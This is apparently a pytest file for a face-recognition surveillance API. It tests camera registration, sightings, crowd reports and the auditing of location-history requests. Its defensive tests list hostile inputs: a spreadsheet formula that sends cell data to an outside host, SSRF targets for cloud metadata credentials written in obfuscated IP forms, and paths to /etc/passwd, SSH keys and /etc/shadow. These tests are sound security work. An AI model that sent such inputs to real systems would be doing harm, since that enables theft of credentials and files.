"""Issue 5 over HTTP: cameras, pushed frames, sightings, history, crowd reports and alerts.

A real server on loopback with the real models; frames are real photos
(``../shared/data/faces``): Obama is enrolled from one photo on the
``entrance`` watchlist and pushed as another. Frame times are a few minutes
in the past, so that they are inside the retention and the alert window.
"""

from __future__ import annotations

import csv
import io
import json
import time
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import httpx
import pytest

from facewarden.config import Settings
from facewarden.service import SubjectRecord, Warden
from facewarden.service.audit import REDACTED
from facewarden.service.ingest import CameraStatus

from ._live import FAST, LiveServer, serving

NAME = "Barack Obama"
SECRET_SOURCE = "rtsp://admin:hunter2secret@10.0.0.5:554/live/ch1"
CASE = "case 2026/117 (theft at the loading bay)"


def _enroll(client: httpx.Client, photo: Path, watchlist: str = "entrance") -> str:
    client.post(
        "/v1/watchlists",
        json={"name": watchlist, "purpose": "site access", "lawful_basis": "art. 6(1)(f)"},
    ).raise_for_status()
    created = client.post(
        "/v1/subjects",
        data={
            "record": json.dumps({"full_name": NAME, "lawful_basis": "consent"}),
            "watchlist": watchlist,
        },
        files={"file": ("enrolled.jpg", photo.read_bytes(), "image/jpeg")},
    )
    created.raise_for_status()
    return str(created.json()["subject_id"])


def _camera(client: httpx.Client, name: str, **fields: Any) -> dict[str, Any]:
    response = client.post("/v1/cameras", json={"name": name, "location": "north door"} | fields)
    assert response.status_code == 201, response.text
    return dict(response.json())


def _push(
    client: httpx.Client, camera: str, image: bytes, when: datetime | str | None
) -> httpx.Response:
    data = {} if when is None else {"taken_at": when if isinstance(when, str) else when.isoformat()}
    return client.post(
        f"/v1/cameras/{camera}/frames",
        data=data,
        files={"image": ("frame.jpg", image, "image/jpeg")},
    )


def _error(response: httpx.Response, status: int, kind: str | None = None) -> str:
    assert response.status_code == status, response.text
    error = response.json()["error"]
    if kind is not None:
        assert error["type"] == kind, error
    assert NAME not in error["message"] and "Obama" not in error["message"]
    return str(error["message"])


@pytest.fixture(scope="module")
def site(live: LiveServer, photos: dict[str, Path]) -> dict[str, str]:
    """Obama enrolled on ``entrance``; cameras ``door`` (checks it) and ``chapel`` (sensitive)."""
    with live.client("operator") as operator:
        subject = _enroll(operator, photos["obama"])
        door = _camera(operator, "door", watchlists=["entrance"])
        chapel = _camera(operator, "chapel", location="prayer room", sensitive=True)
    return {"subject": subject, "door": door["camera_id"], "chapel": chapel["camera_id"]}


@pytest.fixture(scope="module")
def t0() -> datetime:
    """The time of the first pushed frame: five minutes ago, on the minute."""
    return (datetime.now(UTC) - timedelta(minutes=5)).replace(second=0, microsecond=0)


def test_cameras_are_created_listed_read_and_removed_without_their_source(
    live: LiveServer, site: dict[str, str]
) -> None:
    with live.client("operator") as operator, live.client("analyst") as analyst:
        created = operator.post(
            "/v1/cameras",
            json={
                "name": "gate",
                "location": "south gate",
                "latitude": 52.37,
                "longitude": 4.89,
                "watchlists": ["entrance"],
                "source": SECRET_SOURCE,
                "retention_hours": 12,
                "keep_thumbnails": True,
            },
        )
        assert created.status_code == 201, created.text
        gate = created.json()
        assert gate["source_kind"] == "stream" and gate["state"] == "idle"
        assert gate["watchlists"] and gate["retention_hours"] == 12 and gate["keep_thumbnails"]
        assert (gate["latitude"], gate["longitude"]) == (52.37, 4.89)
        listed = analyst.get("/v1/cameras")
        assert listed.status_code == 200
        names = [c["name"] for c in listed.json()["cameras"]]
        assert {"door", "chapel", "gate"} <= set(names)
        by_name = analyst.get("/v1/cameras/gate").json()
        by_id = analyst.get(f"/v1/cameras/{gate['camera_id']}").json()
        assert by_name == by_id == gate
        for response in (created, listed, operator.get("/v1/cameras/gate")):
            assert "hunter2" not in response.text and "10.0.0.5" not in response.text
            assert "rtsp" not in response.text
        chapel = analyst.get("/v1/cameras/chapel").json()
        assert chapel["sensitive"] and chapel["watchlists"] == [] and chapel["source_kind"] is None
        # A camera reading its own source takes no pushed frames.
        _error(_push(operator, "gate", b"\xff\xd8\xff", None), 409, "ConflictError")

        _error(operator.post("/v1/cameras", json={"name": "gate", "location": "x"}), 409)
        _error(
            operator.post(
                "/v1/cameras",
                json={
                    "name": "crypt",
                    "location": "x",
                    "sensitive": True,
                    "watchlists": ["entrance"],
                },
            ),
            400,
            "InvalidInputError",
        )
        _error(
            operator.post("/v1/cameras", json={"name": "x", "location": "y", "latitude": 91.0}),
            422,
        )
        _error(
            operator.post("/v1/cameras", json={"name": "x", "location": "y", "latitude": 1.0}),
            400,
        )
        _error(
            operator.post(
                "/v1/cameras", json={"name": "x", "location": "y", "watchlists": ["nowhere"]}
            ),
            404,
        )
        _error(operator.post("/v1/cameras", json={"name": "x", "location": "y", "url": "z"}), 422)
        _error(analyst.post("/v1/cameras", json={"name": "x", "location": "y"}), 403)

        assert analyst.delete("/v1/cameras/gate").status_code == 403
        assert operator.delete("/v1/cameras/gate").status_code == 204
        _error(operator.get("/v1/cameras/gate"), 404, "NotFoundError")
        _error(operator.delete("/v1/cameras/gate"), 404, "NotFoundError")


def test_an_ingest_workers_state_is_shown_without_credentials(live: LiveServer) -> None:
    class Ingest:
        def states(self) -> dict[str, CameraStatus]:
            return {
                "yard": CameraStatus(
                    "yard", "reconnecting", f"cannot open {SECRET_SOURCE}", frames=7, sightings=1
                )
            }

    state = live.app.state.server
    with live.client("operator") as operator:
        _camera(operator, "yard", source=SECRET_SOURCE)
        # A file camera comes from the command line (over the API, files need
        # FACEWARDEN_CAMERA_VIDEO_DIR): registered through the library as it does.
        live.warden.cameras.add("loading bay", location="north door", source="/srv/video/bay.mp4")
        state.ingest = Ingest()
        try:
            yard = operator.get("/v1/cameras/yard").json()
            bay = operator.get("/v1/cameras/loading bay").json()
        finally:
            state.ingest = None
        assert (yard["state"], yard["frames"], yard["sightings"]) == ("reconnecting", 7, 1)
        assert yard["error"] and "hunter2" not in yard["error"]
        assert (bay["state"], bay["source_kind"], bay["error"]) == ("idle", "file", None)
        assert "bay.mp4" not in operator.get("/v1/cameras").text
        assert operator.delete("/v1/cameras/yard").status_code == 204
        assert operator.delete("/v1/cameras/loading bay").status_code == 204


def test_pushed_frames_of_an_enrolled_person_make_one_sighting(
    live: LiveServer, site: dict[str, str], photos: dict[str, Path], t0: datetime
) -> None:
    frame = photos["obama2"].read_bytes()
    new: list[str] = []
    with live.client("operator") as operator:
        for second in range(3):
            response = _push(operator, "door", frame, t0 + timedelta(seconds=second))
            assert response.status_code == 200, response.text
            body = response.json()
            assert body["faces"] == 1 and body["people"] == 1  # the face is the person
            assert NAME not in response.text and site["subject"] not in response.text
            new.extend(body["new_sightings"])
        assert len(new) == 1 and new[0].startswith("sig_")
        door = operator.get("/v1/cameras/door").json()
        assert (door["state"], door["source_kind"], door["frames"]) == ("live", "push", 3)
        ended = operator.post("/v1/cameras/door/frames/end")
        assert ended.json() == {"ended": True, "frames": 3, "sightings": 1}
        assert operator.post("/v1/cameras/door/frames/end").json()["ended"] is False
        assert operator.get("/v1/cameras/door").json()["state"] == "idle"

        found = operator.get(
            "/v1/sightings",
            params={
                "camera": "door",
                "watchlist": "entrance",
                "start": (t0 - timedelta(minutes=1)).isoformat(),
                "end": datetime.now(UTC).isoformat(),
            },
        )
        assert found.status_code == 200, found.text
        sightings = found.json()["sightings"]
        assert [s["sighting_id"] for s in sightings] == new and not found.json()["truncated"]
        assert sightings[0]["subject_id"] == site["subject"]
        assert sightings[0]["camera_id"] == site["door"]
        assert datetime.fromisoformat(sightings[0]["first_seen"]) == t0
        assert datetime.fromisoformat(sightings[0]["last_seen"]) == t0 + timedelta(seconds=2)
        assert NAME not in found.text

        alerts = operator.get("/v1/alerts")
        assert alerts.status_code == 200, alerts.text
        listed = alerts.json()["sightings"]
        assert [a["sighting_id"] for a in listed] == new
        assert listed[0]["subject_id"] == site["subject"] and NAME not in alerts.text
        assert alerts.json()["occupancy"] == []
    with live.client("analyst") as analyst:
        _error(
            analyst.get("/v1/sightings", params={"camera": "door", "watchlist": "entrance"}), 403
        )
        _error(analyst.get("/v1/alerts"), 403)
    with live.client("auditor") as auditor:
        entries = auditor.get("/v1/audit", params={"object_id": site["door"], "limit": 100})
        actions = {e["action"] for e in entries.json()["entries"]}
        assert {"camera.stream_start", "camera.stream_end", "sightings.at_camera"} <= actions
        newest = auditor.get("/v1/audit/verify").json()["checked"]
        recent = auditor.get("/v1/audit", params={"before": newest + 1, "limit": 20})
        (polled,) = [e for e in recent.json()["entries"] if e["action"] == "sightings.alerts"]
        # The person whose whereabouts it held, by id (`audit --about` finds it).
        assert polled["details"] == {"cameras": 1, "sightings": 1, "subjects": [site["subject"]]}


def test_a_sensitive_camera_counts_and_never_identifies(
    live: LiveServer, site: dict[str, str], photos: dict[str, Path], t0: datetime
) -> None:
    before = live.warden.store.count_sightings()
    frame = photos["obama2"].read_bytes()
    with live.client("operator") as operator:
        for second in range(3):
            response = _push(operator, "chapel", frame, t0 + timedelta(seconds=second))
            assert response.status_code == 200, response.text
            assert response.json()["faces"] == 1 and response.json()["new_sightings"] == []
        assert operator.post("/v1/cameras/chapel/frames/end").json()["ended"] is True
        found = operator.get("/v1/sightings", params={"camera": "chapel", "watchlist": "entrance"})
        assert found.status_code == 200 and found.json()["sightings"] == []
    assert live.warden.store.count_sightings() == before
    with live.client("analyst") as analyst:
        crowd = analyst.get(
            "/v1/cameras/chapel/crowd",
            params={"start": (t0 - timedelta(minutes=1)).isoformat()},
        )
        assert crowd.status_code == 200, crowd.text
        assert sum(b["frames"] for b in crowd.json()["buckets"]) == 3


def test_crowd_reports_after_the_stream_ends(
    live: LiveServer, site: dict[str, str], t0: datetime
) -> None:
    params = {
        "start": (t0 - timedelta(minutes=1)).isoformat(),
        "end": (t0 + timedelta(minutes=2)).isoformat(),
    }
    with live.client("analyst") as analyst:
        response = analyst.get("/v1/cameras/door/crowd", params=params)
        assert response.status_code == 200, response.text
        body = response.json()
        assert body["camera"] == site["door"] and body["min_count"] == 5
        (bucket,) = body["buckets"]
        assert datetime.fromisoformat(bucket["start"]) <= t0
        assert bucket["seconds"] == 60 and bucket["frames"] == 3
        # One person: every count is under the threshold, so suppressed.
        assert bucket["faces_max"] is None and bucket["faces_mean"] is None
        assert bucket["people_max"] is None and bucket["unique_visitors"] is None
        assert set(bucket["dwell"]) == {"<10s", "10s-1min", "1-5min", ">5min"}
        assert all(v is None for v in bucket["dwell"].values())
        assert len(bucket["heatmap"]) == 8 and all(len(row) == 8 for row in bucket["heatmap"])
        assert all(cell is None for row in bucket["heatmap"] for cell in row)
        assert site["subject"] not in response.text

        exported = analyst.get("/v1/cameras/door/crowd.csv", params=params)
        assert exported.status_code == 200, exported.text
        assert exported.headers["content-type"].startswith("text/csv")
        rows = list(csv.reader(io.StringIO(exported.text)))
        assert rows[0][:4] == ["camera", "start", "seconds", "frames"]
        assert len(rows) == 2 and rows[1][0] == "door" and rows[1][3] == "3"
        assert rows[1][4] == "<5"

        empty = analyst.get("/v1/cameras/door/crowd", params={"end": params["start"]})
        assert empty.status_code == 200 and empty.json()["buckets"] == []
        _error(analyst.get("/v1/cameras/nowhere/crowd"), 404, "NotFoundError")
        _error(analyst.get("/v1/cameras/nowhere/crowd.csv"), 404, "NotFoundError")
        swapped = {"start": params["end"], "end": params["start"]}
        _error(analyst.get("/v1/cameras/door/crowd", params=swapped), 400, "InvalidInputError")
        naive = {"start": "2026-01-01T08:00:00"}
        _error(analyst.get("/v1/cameras/door/crowd.csv", params=naive), 400, "InvalidInputError")
        too_long = {"start": (t0 - timedelta(days=8)).isoformat(), "end": t0.isoformat()}
        _error(analyst.get("/v1/cameras/door/crowd", params=too_long), 400)
        assert analyst.get("/v1/cameras/door/crowd.csv", params=too_long).status_code == 200
        _error(analyst.get("/v1/cameras/door/crowd", params={"start": "yesterday"}), 422)


def test_history_needs_an_investigator_and_a_case_and_is_audited(
    live: LiveServer, site: dict[str, str]
) -> None:
    url = f"/v1/subjects/{site['subject']}/history"
    with live.client("operator") as operator:
        _error(operator.post(url, json={"hours": 24, "case_reference": CASE}), 403)
    with live.client("admin") as admin:
        _error(admin.post(url, json={"hours": 24, "case_reference": CASE}), 403)
    with live.client("investigator") as investigator:
        _error(investigator.post(url, json={"hours": 24}), 422, "ValidationError")
        _error(
            investigator.post(url, json={"hours": 24, "case_reference": "  "}),
            403,
            "PermissionDeniedError",
        )
        _error(investigator.post(url, json={"hours": 0, "case_reference": CASE}), 422)
        _error(investigator.post(url, data={"hours": "24", "case_reference": CASE}), 415)
        done = investigator.post(url, json={"hours": 24, "case_reference": CASE})
        assert done.status_code == 200, done.text
        body = done.json()
        assert body["status"] == "done" and body["request_id"] is None
        assert [s["camera_id"] for s in body["sightings"]] == [site["door"]]
        assert NAME not in done.text
        # The site question is the investigator's too, audited like the history.
        assert (
            investigator.get(
                "/v1/sightings", params={"camera": "door", "watchlist": "entrance"}
            ).status_code
            == 200
        )
        _error(investigator.get("/v1/cameras"), 403)
    # The case reference is typed text: an admin reads it, an auditor (who sees
    # no names) only that one was given (issue 13 finding 4).
    for role, shown in (("admin", CASE), ("auditor", REDACTED)):
        with live.client(role) as reader:
            entries = reader.get("/v1/audit", params={"object_id": site["subject"], "limit": 100})
            history = [e for e in entries.json()["entries"] if e["action"] == "sightings.history"]
        outcomes = [(e["outcome"], e["purpose"], e["actor"]) for e in history]
        investigator_actor = next(a for o, _, a in outcomes if o == "ok")
        assert ("ok", shown, investigator_actor) in outcomes
        assert ("denied", "", investigator_actor) in outcomes
        assert all(NAME not in json.dumps(e) for e in history)


@pytest.fixture(scope="module")
def approving(
    tmp_path_factory: pytest.TempPathFactory, photos: dict[str, Path]
) -> Iterator[tuple[LiveServer, str]]:
    """A second server whose location histories need a second person's approval."""
    with serving(tmp_path_factory.mktemp("approving"), history_approval=True) as running:
        with running.client("operator") as operator:
            subject = _enroll(operator, photos["obama"])
        yield running, subject


def test_a_history_waits_for_a_second_investigators_approval(
    approving: tuple[LiveServer, str],
) -> None:
    live, subject = approving
    url = f"/v1/subjects/{subject}/history"
    query = {"hours": 48, "case_reference": CASE}
    with live.client("investigator") as first, live.client("investigator2") as second:
        pending = first.post(url, json=query)
        assert pending.status_code == 202, pending.text
        body = pending.json()
        assert body["status"] == "pending" and body["sightings"] == []
        request_id = body["request_id"]
        waiting = first.post(url, json=query | {"request_id": request_id})
        _error(waiting, 403, "PermissionDeniedError")
        _error(first.post(f"/v1/history-requests/{request_id}/approve"), 403)
        _error(second.post("/v1/history-requests/req_0000000000000000/approve"), 404)
        with live.client("operator") as operator:
            _error(operator.post(f"/v1/history-requests/{request_id}/approve"), 403)
        approved = second.post(f"/v1/history-requests/{request_id}/approve")
        assert approved.status_code == 204, approved.text
        _error(second.post(f"/v1/history-requests/{request_id}/approve"), 403)
        # The approved request is for this query only, and for its requester only.
        _error(second.post(url, json=query | {"request_id": request_id}), 403)
        _error(
            first.post(url, json={"hours": 24, "case_reference": CASE, "request_id": request_id}),
            403,
        )
        done = first.post(url, json=query | {"request_id": request_id})
        assert done.status_code == 200, done.text
        assert done.json() == {"status": "done", "request_id": request_id, "sightings": []}
    with live.client("auditor") as auditor:
        entries = auditor.get("/v1/audit", params={"object_id": request_id}).json()["entries"]
    assert [e["action"] for e in entries] == [
        "sightings.history_request",
        "sightings.history_approve",
    ]


def test_occupancy_alerts_reach_the_console(
    live: LiveServer, site: dict[str, str], photos: dict[str, Path]
) -> None:
    state = live.app.state.server
    state.occupancy_threshold = 1
    try:
        with live.client("operator") as operator:
            lobby = _camera(operator, "lobby")
            response = _push(operator, "lobby", photos["obama2"].read_bytes(), None)
            assert response.status_code == 200 and response.json()["faces"] == 1
            assert operator.post("/v1/cameras/lobby/frames/end").json()["ended"] is True
            alerts = operator.get("/v1/alerts", params={"limit": 5}).json()
    finally:
        state.occupancy_threshold = 50
    (alert,) = [a for a in alerts["occupancy"] if a["camera_id"] == lobby["camera_id"]]
    assert (alert["people"], alert["threshold"]) == (1, 1)
    assert len(alerts["sightings"]) <= 5


def test_bad_frames_times_and_ids_are_typed_4xx(
    live: LiveServer, site: dict[str, str], photos: dict[str, Path]
) -> None:
    frame = photos["obama2"].read_bytes()
    now = datetime.now(UTC).replace(microsecond=0)
    with live.client("operator") as operator:
        hall = _camera(operator, "hall", source="push")
        assert hall["source_kind"] is None  # "push" is no source: frames come over the API
        _error(_push(operator, "hall", b"this is not an image", None), 400, "ImageError")
        _error(_push(operator, "hall", b"", None), 400, "ImageError")
        _error(_push(operator, "hall", frame, "2026-01-01T08:00:00"), 400, "InvalidInputError")
        _error(_push(operator, "hall", frame, "not a time"), 422, "ValidationError")
        _error(_push(operator, "hall", frame, now + timedelta(hours=1)), 400, "InvalidInputError")
        _error(_push(operator, "hall", frame, now - timedelta(days=30)), 400, "InvalidInputError")
        assert _push(operator, "hall", frame, now - timedelta(seconds=30)).status_code == 200
        message = _error(
            _push(operator, "hall", frame, now - timedelta(seconds=40)), 400, "InvalidInputError"
        )
        assert "previous frame" in message
        # Without taken_at the server's clock is used, never before the previous frame.
        latest = _push(operator, "hall", frame, None)
        assert latest.status_code == 200
        assert datetime.fromisoformat(latest.json()["taken_at"]) >= now - timedelta(seconds=30)
        _error(_push(operator, "nowhere", frame, None), 404, "NotFoundError")
        _error(operator.post("/v1/cameras/nowhere/frames/end"), 404, "NotFoundError")
        _error(
            operator.post("/v1/cameras/hall/frames", json={"image": "x"}),
            415,
        )
        no_file = operator.post("/v1/cameras/hall/frames", files={"other": ("a", b"b")})
        _error(no_file, 422, "ValidationError")
        # Removing the camera drops its open stream.
        assert operator.delete("/v1/cameras/hall").status_code == 204
        _error(_push(operator, "hall", frame, None), 404)

        sightings = "/v1/sightings"
        _error(operator.get(sightings, params={"camera": "door"}), 422)
        _error(operator.get(sightings, params={"camera": "nowhere", "watchlist": "entrance"}), 404)
        _error(operator.get(sightings, params={"camera": "door", "watchlist": "nowhere"}), 404)
        naive = {"camera": "door", "watchlist": "entrance", "start": "2026-01-01T08:00:00"}
        _error(operator.get(sightings, params=naive), 400, "InvalidInputError")
        early = {"camera": "door", "watchlist": "entrance", "start": "0001-01-01T00:00:00+05:00"}
        _error(operator.get(sightings, params=early), 400, "InvalidInputError")
        _error(operator.get("/v1/alerts", params={"since": "2026-01-01T08:00:00"}), 400)
        future = (now + timedelta(days=1)).isoformat()
        _error(operator.get("/v1/alerts", params={"since": future}), 400)
        _error(operator.get("/v1/alerts", params={"limit": 1000}), 422)
    with live.client("investigator") as investigator:
        unknown = investigator.post(
            "/v1/subjects/sub_0000000000000000/history", json={"hours": 1, "case_reference": CASE}
        )
        assert unknown.status_code in (200, 404), unknown.text


def test_a_pushed_stream_that_goes_quiet_is_ended_and_its_counts_written(
    tmp_path_factory: pytest.TempPathFactory, photos: dict[str, Path]
) -> None:
    # A client that stops pushing without calling /frames/end: the server ends
    # the stream itself, so its tracks close and its crowd minute is stored. The idle
    # limit leaves a loaded machine time to answer the push before the check below.
    with serving(tmp_path_factory.mktemp("quiet"), push_idle_seconds=4.0) as running:
        state = running.app.state.server
        with running.client("operator") as operator:
            camera = _camera(operator, "hall")["camera_id"]
            assert _push(operator, "hall", photos["obama2"].read_bytes(), None).status_code == 200
            assert state.open_stream(camera) is not None
            deadline = datetime.now(UTC) + timedelta(seconds=20)
            while state.open_stream(camera) is not None and datetime.now(UTC) < deadline:
                time.sleep(0.2)
            assert state.open_stream(camera) is None, "the idle stream was not ended"
            buckets = running.warden.store.crowd_buckets(
                camera,
                datetime.now(UTC) - timedelta(hours=1),
                datetime.now(UTC) + timedelta(hours=1),
            )
            assert [(b.frames, b.faces_max) for b in buckets] == [(1, 1)]
            # A new frame opens a new stream.
            assert _push(operator, "hall", photos["obama2"].read_bytes(), None).status_code == 200
            assert state.open_stream(camera) is not None


def test_the_server_purges_expired_sightings_itself(
    tmp_path_factory: pytest.TempPathFactory, photos: dict[str, Path]
) -> None:
    # Promise 11: sightings expire after 24 h and an hourly purge deletes them. The
    # server runs that purge itself (here every 1.2 s), not only `facewarden purge`.
    with serving(tmp_path_factory.mktemp("purging"), purge_interval_minutes=0.02) as running:
        with running.client("operator") as operator:
            subject = _enroll(operator, photos["obama"])
            camera_id = _camera(operator, "door", watchlists=["entrance"])["camera_id"]
        warden = running.warden
        camera = warden.store.get_camera(camera_id)
        assert camera is not None
        now = datetime.now(UTC)
        old = warden.sightings.open_visit(
            camera, subject, camera.watchlists[0], now - timedelta(hours=30),
            now - timedelta(hours=25), 0.95,
        )  # fmt: skip
        fresh = warden.sightings.open_visit(
            camera, subject, camera.watchlists[0], now - timedelta(hours=1), now, 0.95
        )
        deadline = time.monotonic() + 30
        while warden.store.get_sighting(old) is not None and time.monotonic() < deadline:
            time.sleep(0.2)
        assert warden.store.get_sighting(old) is None, "the expired sighting was not purged"
        assert warden.store.get_sighting(fresh) is not None
        purges = [e for e in warden.audit.entries(limit=1000) if e.action == "retention.purge"]
        assert purges and purges[0].actor == "system:retention"


@pytest.mark.parametrize(
    "name", ['=HYPERLINK("http://x.example/?"&A1,"open")', "+1+2", "-2+3", "@SUM(1)"]
)
def test_a_camera_name_cannot_become_a_spreadsheet_formula_in_crowd_csv(
    live: LiveServer, photos: dict[str, Path], name: str
) -> None:
    # Found by hand (OWASP "CSV injection"): an operator's camera name went into
    # crowd.csv as is, so the analyst who opened the export in a spreadsheet ran
    # it as a formula. A cell starting with = + - @ (or a tab or CR) now starts
    # with a quote, which spreadsheets show as text.
    with live.client("operator") as operator:
        camera = _camera(operator, name, location=f"csv export {name}")["camera_id"]
        assert _push(operator, camera, photos["obama2"].read_bytes(), None).status_code == 200
        operator.post(f"/v1/cameras/{camera}/frames/end").raise_for_status()
    with live.client("analyst") as analyst:
        since = (datetime.now(UTC) - timedelta(minutes=2)).isoformat()
        exported = analyst.get(f"/v1/cameras/{camera}/crowd.csv", params={"start": since})
    assert exported.status_code == 200, exported.text
    rows = list(csv.reader(io.StringIO(exported.text)))
    assert len(rows) == 2 and rows[1][0] == "'" + name


@pytest.mark.parametrize(
    "source",
    ["ftp://cams.example/lobby", "file:///etc/passwd", "smb://nas/cam.mp4", "RTMP://x/live"],
)
def test_a_camera_source_that_is_neither_a_file_nor_a_stream_url_is_refused(
    live: LiveServer, source: str
) -> None:
    # Found by hand: such a source was registered (201) as a file literally
    # called "ftp://...", and the camera only failed once a worker tried it.
    with live.client("operator") as operator:
        answer = operator.post(
            "/v1/cameras", json={"name": "odd source", "location": "x", "source": source}
        )
        message = _error(answer, 400, "InvalidInputError")
        assert "rtsp://" in message and "passwd" not in message
        assert operator.get("/v1/cameras/odd source").status_code == 404


# A stolen operator or admin key must not make the server fetch from the cloud's
# metadata service or from this machine: each of these reaches one of them.
REFUSED_STREAMS = [
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "rtsp://[fd00:ec2::254]/latest",
    "http://metadata.google.internal/computeMetadata/v1/",
    "http://100.100.100.200/latest/meta-data/",
    "http://2852039166/latest/meta-data/",  # 169.254.169.254 as one number
    "http://0251.0376.0251.0376/",  # the same in octal
    "rtsp://[::ffff:169.254.169.254]:554/x",
    "rtsp://admin:pw@127.0.0.1:5432/postgres",
    "http://127.1:8000/v1/subjects",
    "rtsp://localhost:8554/cam",
    "http://0.0.0.0:8000/",
    "rtsp://[::1]/x",
    "rtsp://[fe80::1]/x",
]


@pytest.mark.parametrize("source", REFUSED_STREAMS)
def test_a_stream_at_a_metadata_loopback_or_link_local_address_is_refused(
    live: LiveServer, source: str
) -> None:
    # Found by probing: any such URL was registered (201), and the ingest worker
    # then connected to it, server-side request forgery through a camera.
    with live.client("admin") as admin:
        answer = admin.post(
            "/v1/cameras", json={"name": "probe", "location": "x", "source": source}
        )
        message = _error(answer, 400, "InvalidInputError")
        assert "FACEWARDEN_CAMERA_ALLOWED_NETWORKS" in message
        assert "pw" not in message and "meta-data" not in message  # no credential, no path
        assert admin.get("/v1/cameras/probe").status_code == 404


def test_a_private_lan_camera_is_allowed_and_loopback_only_by_the_setting(
    tmp_path_factory: pytest.TempPathFactory,
) -> None:
    # Real IP cameras live on private LANs: those stay allowed by default.
    lan_root, relay_root = tmp_path_factory.mktemp("lan"), tmp_path_factory.mktemp("relay")
    with live_camera_server(lan_root, ()) as lan, lan.client("operator") as operator:
        for i, source in enumerate(
            ("rtsp://10.0.0.5:554/ch1", "rtsp://192.168.1.64/h264", "http://[fd12::5]/mjpg")
        ):
            assert _camera(operator, f"lan{i}", source=source)["source_kind"] == "stream"
        local = {"name": "relay", "location": "x", "source": "rtsp://127.0.0.1:8554/cam"}
        assert operator.post("/v1/cameras", json=local).status_code == 400
    allowing = live_camera_server(relay_root, ("127.0.0.1/32",))
    with allowing as relay, relay.client("operator") as operator:
        assert _camera(operator, "relay", source="rtsp://127.0.0.1:8554/cam")
        metadata = {"name": "md", "location": "x", "source": "http://169.254.169.254/"}
        assert operator.post("/v1/cameras", json=metadata).status_code == 400


@pytest.mark.parametrize(
    "source", ["/etc/passwd", "/root/.ssh/id_rsa", "../../../../etc/shadow", "relative.mp4"]
)
def test_a_camera_over_the_api_reads_no_file_unless_a_video_folder_is_set(
    live: LiveServer, source: str
) -> None:
    # Found by probing: an operator's key registered any path on the server as a
    # camera (201); the worker then opened it, and the camera's error told files
    # that exist ("not a video file") from those that do not ("does not exist").
    with live.client("operator") as operator:
        answer = operator.post("/v1/cameras", json={"name": "f", "location": "x", "source": source})
        assert "FACEWARDEN_CAMERA_VIDEO_DIR" in _error(answer, 400, "InvalidInputError")
        assert operator.get("/v1/cameras/f").status_code == 404


def test_a_camera_over_the_api_reads_files_in_the_video_folder_only(
    tmp_path_factory: pytest.TempPathFactory,
) -> None:
    root = tmp_path_factory.mktemp("videos")
    videos = root / "videos"
    (videos / "lobby").mkdir(parents=True)
    (root / "secret.mp4").write_bytes(b"not for cameras")
    (videos / "escape.mp4").symlink_to(root / "secret.mp4")
    (videos / "loop").symlink_to(videos / "loop")
    with (
        serving(root, camera_video_dir=videos, ingest=False, **FAST) as running,
        running.client("operator") as operator,
    ):
        for i, inside in enumerate((str(videos / "lobby" / "door.mp4"), "lobby/door.mp4")):
            assert _camera(operator, f"in{i}", source=inside)["source_kind"] == "file"
        for outside in (
            str(root / "secret.mp4"),
            str(videos / ".." / "secret.mp4"),
            "../secret.mp4",
            "lobby/../../secret.mp4",
            str(videos / "escape.mp4"),  # a link out of the folder
        ):
            new = {"name": "out", "location": "x", "source": outside}
            message = _error(operator.post("/v1/cameras", json=new), 400, "InvalidInputError")
            assert "FACEWARDEN_CAMERA_VIDEO_DIR" in message and str(root) not in message
        looped = {"name": "loop", "location": "x", "source": "loop/door.mp4"}
        assert "loop of links" in _error(operator.post("/v1/cameras", json=looped), 400)
        stored = running.warden.cameras.sources()
    assert sorted(stored.values()) == [str((videos / "lobby" / "door.mp4").resolve())] * 2


def live_camera_server(root: Path, allowed: tuple[str, ...]) -> Any:
    """A server whose camera streams may also be in ``allowed``; nothing is ingested."""
    return serving(root, camera_allowed_networks=allowed, ingest=False, **FAST)


def test_a_restarted_server_purges_at_once_not_an_interval_later(
    tmp_path_factory: pytest.TempPathFactory, photos: dict[str, Path]
) -> None:
    # The server's first purge came one interval (an hour) after it started: one
    # restarted more often than that (a deploy pipeline, a crash loop, a laptop)
    # never purged at all, and one back from a day down kept expired sightings
    # an hour more. Now it purges as it starts, then every interval.
    root = tmp_path_factory.mktemp("restarted")
    settings = Settings(data_dir=root / "data", key_dir=root / "keys", workers=1, **FAST)
    with Warden.open(settings, create=True, actor="test:setup") as warden:
        warden.watchlists.create("entrance", purpose="site access", lawful_basis="test")
        record = SubjectRecord(full_name="Barack Obama", lawful_basis="test")
        subject = warden.registry.enroll(record, [photos["obama"]], watchlists=("entrance",))
        warden.cameras.add("door", location="front door", watchlists=["entrance"])
        camera = warden.store.camera_by_name("door")
        assert camera is not None
        now = datetime.now(UTC)
        old = warden.sightings.open_visit(
            camera, subject.subject_id, camera.watchlists[0], now - timedelta(hours=30),
            now - timedelta(hours=25), 0.95,
        )  # fmt: skip
    with serving(root, **FAST) as running:  # purge_interval_minutes: the hour by default
        assert running.settings.purge_interval_minutes == 60
        deadline = time.monotonic() + 30
        while running.warden.store.get_sighting(old) is not None and time.monotonic() < deadline:
            time.sleep(0.1)
        assert running.warden.store.get_sighting(old) is None, "not purged as the server started"
